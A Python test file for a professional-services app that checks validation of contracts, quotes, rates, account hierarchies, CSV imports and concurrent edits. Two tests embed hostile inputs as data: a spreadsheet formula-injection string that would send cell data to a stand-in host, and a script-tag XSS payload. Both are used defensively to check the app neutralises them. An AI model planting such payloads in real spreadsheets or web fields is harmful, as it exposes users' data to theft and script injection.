"""Wrong input in clients and contracts: a sentence beside the field, and nothing is written."""

from dataclasses import replace
from datetime import date, timedelta
from typing import Any

import pytest
from sqlmodel import select

from psa_app import db
from psa_app.errors import Conflict, Forbidden, Invalid, Problems, PsaError, Stale
from psa_app.formats.csv_out import write_csv
from psa_app.formats.tables_in import check_file, read_any
from psa_app.models import Account, Activity, ImportRun
from psa_app.models.base import metadata
from psa_app.queries.exports import export_table
from psa_app.resources import RESOURCES
from psa_app.rules.money import Money
from psa_app.services.clients.activities import log_activity
from psa_app.services.contracts.accept import accept_sow
from psa_app.services.contracts.inputs import FeePartInput, LineInput, MilestoneInput
from psa_app.services.contracts.write import change_sow, create_sow
from psa_app.services.imports import Choices, apply_records, guessed
from psa_app.services.lowcode.fields import create_field
from psa_app.services.quotes.answer import accept_quote
from psa_app.services.quotes.write import change_quote, create_quote
from psa_app.services.rates import create_rate
from psa_app.services.records import change_record, create_record
from tests.services import quote_world
from tests.services.contract_world import HEAD, Firm, a_draft, a_sent, accept, by_time, make_firm, sow
from tests.services.time_world import ask, do
from tests.support.prepared import prepared

ACCOUNTS = RESOURCES["accounts"]
EUR = Money(10_000, "EUR")


firm = prepared(make_firm, only_sqlite=True)


def counts() -> dict[str, int]:
    """How many rows each table has."""
    with db.reading() as session:
        run = session.connection().execute
        return {name: len(run(select(table.c[0])).all()) for name, table in metadata.tables.items()}


def refused(error: type[PsaError], function: Any, *args: Any, **inputs: Any) -> dict[str, str]:
    """The sentences by field of a call that must fail; nothing in any table may have changed."""
    before = counts()
    with pytest.raises(error) as caught:
        do(function, *args, **inputs)
    assert counts() == before
    told = caught.value
    found = dict(told.fields) if isinstance(told, Problems) else {getattr(told, "field", ""): told.sentence}
    assert all(sentence.strip().endswith((".", "?")) for sentence in found.values()), found
    return found


def wrong_line(firm: Firm, line: LineInput) -> dict[str, str]:
    return refused(Invalid, create_sow, firm["Olga"], account_id=firm.northwind, head=HEAD, lines=(line,))


def test_overlapping_rates(firm: Firm) -> None:
    given: dict[str, Any] = {"level": "account", "rate": EUR, "account_id": firm.northwind}
    do(create_rate, firm["Olga"], **given, valid_from=date(2026, 1, 1))
    told = refused(Invalid, create_rate, firm["Olga"], **given, valid_from=date(2026, 6, 1))
    assert "valid_from" in told


def test_percentages_that_do_not_sum_to_100(firm: Firm) -> None:
    parts = tuple(FeePartInput(date(2027, 1, day), share_ppm=400_000) for day in (1, 2))
    told = wrong_line(firm, LineInput("Fee", "fixed", value=EUR, fee_parts=parts))
    (field,) = told
    assert field.startswith("lines.0.fee_parts")
    assert "100 %" in told[field]


@pytest.mark.parametrize("model", ["", "barter"])
def test_a_line_without_a_billing_model(firm: Firm, model: str) -> None:
    assert "lines.0.model" in wrong_line(firm, LineInput("Help", model))
    line = quote_world.priced("Help", 100, model=model)
    told = refused(
        Invalid, create_quote, firm["Olga"], account_id=firm.northwind, head=quote_world.HEAD, lines=(line,)
    )
    assert "lines.0.model" in told


def test_a_milestone_without_value(firm: Firm) -> None:
    line = LineInput("Launch", "milestone", milestones=(MilestoneInput("Prototype", Money(0, "EUR")),))
    assert "lines.0.milestones.0.value" in wrong_line(firm, line)


def test_dates_in_the_wrong_order(firm: Firm) -> None:
    until = HEAD.starts_on - timedelta(days=1)
    northwind = {"account_id": firm.northwind}
    head = replace(HEAD, ends_on=until)
    lines = (by_time(firm),)
    assert "ends_on" in refused(Invalid, create_sow, firm["Olga"], **northwind, head=head, lines=lines)
    offer = replace(quote_world.HEAD, ends_on=until)
    assert "ends_on" in refused(Invalid, create_quote, firm["Olga"], **northwind, head=offer, lines=())
    rate: dict[str, Any] = {"level": "account", "rate": EUR, "valid_from": HEAD.starts_on, "valid_to": until}
    assert "valid_to" in refused(Invalid, create_rate, firm["Olga"], **northwind, **rate)


def test_a_circular_account_parent(firm: Firm) -> None:
    kestrel = firm.world.accounts["Kestrel"]
    do(change_record, firm["Olga"], ACCOUNTS, kestrel, {"parent_id": firm.northwind}, version=None)
    for parent in (kestrel, firm.northwind):
        told = refused(
            Problems,
            change_record,
            firm["Olga"],
            ACCOUNTS,
            firm.northwind,
            {"parent_id": parent},
            version=None,
        )
        assert list(told) == ["parent_id"]


def test_a_300_mb_import() -> None:
    with pytest.raises(Invalid, match="20 MB") as told:
        check_file("clients.csv", 300_000_000)
    assert told.value.field == "file"


def test_a_latin_1_csv_with_semicolons_and_a_decimal_comma(firm: Firm) -> None:
    do(create_field, firm["Olga"], kind="accounts", label="Budget", type="money")
    table = read_any("Name;Ort;Currency;Budget\nMüller & Söhne;Köln;EUR;1.234,56\n".encode("latin-1"))
    columns = ask(guessed, firm["Olga"], ACCOUNTS, table.headers)
    do(apply_records, firm["Olga"], ACCOUNTS, table, Choices(columns), name="kunden.csv")
    with db.reading() as session:
        made = session.exec(select(Account).where(Account.name == "Müller & Söhne")).one()
    assert (made.city, made.own) == ("Köln", {"budget": 123_456})


def test_one_wrong_row_of_an_import_writes_nothing(firm: Firm) -> None:
    table = read_any(b"Name,Currency\nOsprey,EUR\nHeron,euros\n")
    columns = ask(guessed, firm["Olga"], ACCOUNTS, table.headers)
    told = refused(Conflict, apply_records, firm["Olga"], ACCOUNTS, table, Choices(columns))
    assert "Line 3" in told["file"]
    with db.reading() as session:
        assert session.exec(select(ImportRun)).all() == []


def test_a_formula_in_a_name_is_kept_as_text_and_runs_in_no_file(firm: Firm) -> None:
    name = '=HYPERLINK("http://x/?"&A1)'
    made = do(create_record, firm["Olga"], ACCOUNTS, {"name": name, "currency": "EUR"})
    assert made.name == name
    found = ask(export_table, firm["Olga"], ACCOUNTS, search="HYPERLINK", filters={}, sort="")
    assert "\"'=HYPERLINK" in write_csv(found.headers, found.rows).decode("utf-8-sig")


def test_html_in_a_note_is_kept_as_text(firm: Firm) -> None:
    body = "<script>alert(1)</script>"
    made = do(log_activity, firm["Olga"], account_id=firm.northwind, kind="note", subject=body, body=body)
    with db.reading() as session:
        kept = session.get_one(Activity, made.id)
    assert (kept.subject, kept.body) == (body, body)


def accepting(firm: Firm, who: str, quote_id: int) -> tuple[Any, dict[str, Any]]:
    given = {
        "quote_id": quote_id,
        "text_hash": quote_world.quote(quote_id).text_hash,
        "chosen": (5,),
        "total": quote_world.total_of(quote_id, (5,)),
        "name": "Nora Client",
        "agrees": True,
    }
    return firm[who], given


def test_a_quote_accepted_twice_or_after_its_last_day(firm: Firm, clock: Any) -> None:
    quote_id, late_id = quote_world.an_accepted(firm), quote_world.a_sent(firm)
    nora, given = accepting(firm, "Nora", quote_id)
    assert "already been accepted" in str(refused(Conflict, accept_quote, nora, **given))
    clock.forward(days=60)
    nora, given = accepting(firm, "Nora", late_id)
    assert "open until" in str(refused(Conflict, accept_quote, nora, **given))


def test_a_scope_signed_by_someone_who_may_not(firm: Firm) -> None:
    sow_id = a_sent(firm)
    told = refused(
        Forbidden, accept_sow, firm["Rolf"], sow_id, text_hash=sow(sow_id).text_hash, name="Rolf", agrees=True
    )
    assert "someone else at your company" in told[""]
    accept(firm, "Nora", sow_id)


def test_the_same_record_saved_from_two_tabs(firm: Firm) -> None:
    with db.reading() as session:
        version = session.get_one(Account, firm.northwind).version
    change: tuple[Any, ...] = (firm["Olga"], ACCOUNTS, firm.northwind)
    do(change_record, *change, {"city": "Bremen"}, version=version)
    refused(Stale, change_record, *change, {"city": "Berlin"}, version=version)
    sow_id, quote_id = a_draft(firm), quote_world.a_draft(firm)
    scope: dict[str, Any] = {"version": sow(sow_id).version, "head": HEAD, "lines": (by_time(firm),)}
    do(change_sow, firm["Olga"], sow_id, **scope)
    refused(Stale, change_sow, firm["Olga"], sow_id, **(scope | {"lines": ()}))
    version = quote_world.quote(quote_id).version
    offer: dict[str, Any] = {"version": version, "head": quote_world.HEAD}
    do(change_quote, firm["Olga"], quote_id, **offer, lines=(quote_world.priced("All", 5),))
    refused(Stale, change_quote, firm["Olga"], quote_id, **offer, lines=())
    with db.reading() as session:
        assert session.get_one(Account, firm.northwind).city == "Bremen"
